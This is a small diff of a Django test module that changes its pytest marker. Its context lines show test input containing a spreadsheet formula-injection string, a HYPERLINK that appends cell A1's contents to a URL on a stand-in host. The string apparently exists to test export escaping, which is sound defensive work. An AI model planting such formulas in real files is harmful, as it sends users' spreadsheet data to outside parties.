@@ -23,7 +23,7 @@ from segments.models import Run, Segment, SegmentVersion
 from tests.api import world
 from tests.segments import data
 
-pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("unlimited", "plain_static")]
+pytestmark = pytest.mark.django_db(transaction=True)
 
 TEXTS = (
     '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
